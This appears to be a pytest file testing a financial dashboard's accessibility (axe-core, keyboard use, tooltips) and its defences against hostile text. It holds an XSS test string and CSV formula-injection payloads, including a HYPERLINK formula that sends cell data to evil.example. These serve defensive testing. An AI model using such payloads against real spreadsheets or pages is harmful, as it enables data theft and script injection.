"""Without a mouse, without eyes, and with enemies: keyboard, axe-core, hostile text."""
import csv
import io

import pytest

from conftest import REPOSITORY
from test_page import slider, told

AXE = REPOSITORY / "dashboard/node_modules/axe-core/axe.min.js"


@pytest.mark.parametrize("name,rules,options", [
    ("decade", "all", {}),
    ("decade", "contrast", {"color_scheme": "dark"}),
    ("three_days", "all", {"width": 375}),
    ("empty", "all", {"color_scheme": "dark"}),
    ("hostile", "structure", {})])
def test_axe_finds_no_serious_issue(open_page, name, rules, options):
    """Contrast takes most of the time, so that not every view has it measured."""
    # The page's own policy would not let axe in.
    page = open_page(name, bypass_csp=True, **options).page
    page.add_script_tag(path=AXE)
    chosen = {"all": {}, "contrast": {"runOnly": ["color-contrast"]},
              "structure": {"rules": {"color-contrast": {"enabled": False}}}}[rules]
    result = page.evaluate("options => axe.run(document, options)",
                           {"resultTypes": ["violations"], "preload": False, **chosen})
    assert len(result["passes"]) >= (1 if rules == "contrast" else 20)
    serious = [f"{found['id']}: {found['help']}: {found['nodes'][0]['html'][:160]} ({len(found['nodes'])})"
               for found in result["violations"] if found["impact"] in ("serious", "critical")]
    assert serious == []


def test_a_chart_is_read_by_the_keyboard(open_page):
    page = open_page("decade").page
    chart = slider(page, "Growth")
    chart.focus()
    assert told(page, "Growth").startswith("29 Aug 2025:")
    page.keyboard.press("ArrowLeft")
    assert told(page, "Growth").startswith("28 Aug 2025:")
    assert told(page, "Drawdown").startswith("28 Aug 2025:")
    page.keyboard.press("Home")
    assert told(page, "Growth").startswith("24 Aug 2015:")
    page.keyboard.press("End")
    page.keyboard.press("+")
    assert int(chart.locator(".plot").get_attribute("data-points")) < 1000
    page.keyboard.press("Escape")
    assert int(chart.locator(".plot").get_attribute("data-points")) > 1000


def test_a_metric_explains_itself_by_keyboard_and_pointer(open_page):
    page = open_page("decade").page
    tooltip = page.get_by_role("tooltip")
    name = page.locator(".metric-group .term", has_text="Volatility").first
    name.scroll_into_view_if_needed()
    page.wait_for_timeout(100)
    name.hover()
    text = tooltip.inner_text()
    assert "std(r)*sqrt(A)" in text and "2,520 returns" in text
    page.mouse.move(2, 2)
    assert not tooltip.is_visible()
    first = page.locator(".metric-group .term").first
    page.evaluate("() => window.scrollTo(0, 0)")
    first.focus()  # The page scrolls to it.
    page.wait_for_timeout(100)
    assert "prod(1+r) - 1" in tooltip.inner_text()
    page.keyboard.press("ArrowDown")
    assert "mean(r)*A" in tooltip.inner_text()
    page.keyboard.press("Escape")
    assert not tooltip.is_visible()
    described = page.evaluate("() => document.getElementById(document.activeElement.getAttribute('aria-describedby')).textContent")
    assert "mean(r)*A" in described


def test_the_tab_key_passes_each_table_of_metrics_in_a_few_steps(open_page):
    page = open_page("decade").page
    assert page.locator(".metric-group .term").count() > 90
    assert page.locator('.metric-group .term:not([tabindex="-1"])').count() <= 10


def test_the_first_tab_skips_to_the_numbers(open_page):
    page = open_page("decade").page
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.textContent") == "Skip to the numbers"


def test_hostile_text_is_only_text(open_page):
    opened = open_page("hostile")
    page = opened.page
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.hit") is None
    assert opened.complaints == [] and len(opened.requests) == 1
    assert page.locator("img, iframe, object, embed").count() == 0
    assert page.locator("script").count() == 2
    assert "<script>window.hit=1</script>" in page.locator("#names").inner_text()
    targets = page.locator("a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    assert all(target.startswith(("#", "../runs/", "risk_")) for target in targets), targets
    assert sum(target.startswith("../runs/") for target in targets) >= 3


def test_the_policy_lets_no_other_script_run(open_page):
    page = open_page("decade").page
    ran = page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.hit = 1";
      document.body.append(script);
      const picture = document.createElement("div");
      picture.setAttribute("onclick", "window.hit = 2");
      document.body.append(picture);
      picture.click();
      return window.hit ?? null;
    }""")
    assert ran is None


def test_no_spreadsheet_runs_what_it_opens(open_page, saved):
    page = open_page("hostile").page
    _, names = saved(page, "Save Every name as CSV")
    symbols = [row["Name"] for row in csv.DictReader(io.StringIO(names))]
    for attack in ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1)", "+1-1", "-2+3", "\t=1"):
        assert f"'{attack}" in symbols
    for cells in csv.reader(io.StringIO(names)):
        for cell in cells:
            try:
                float(cell)
            except ValueError:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    _, orders = saved(page, "Save Orders, last day as CSV")
    assert "'=HYPERLINK" in orders
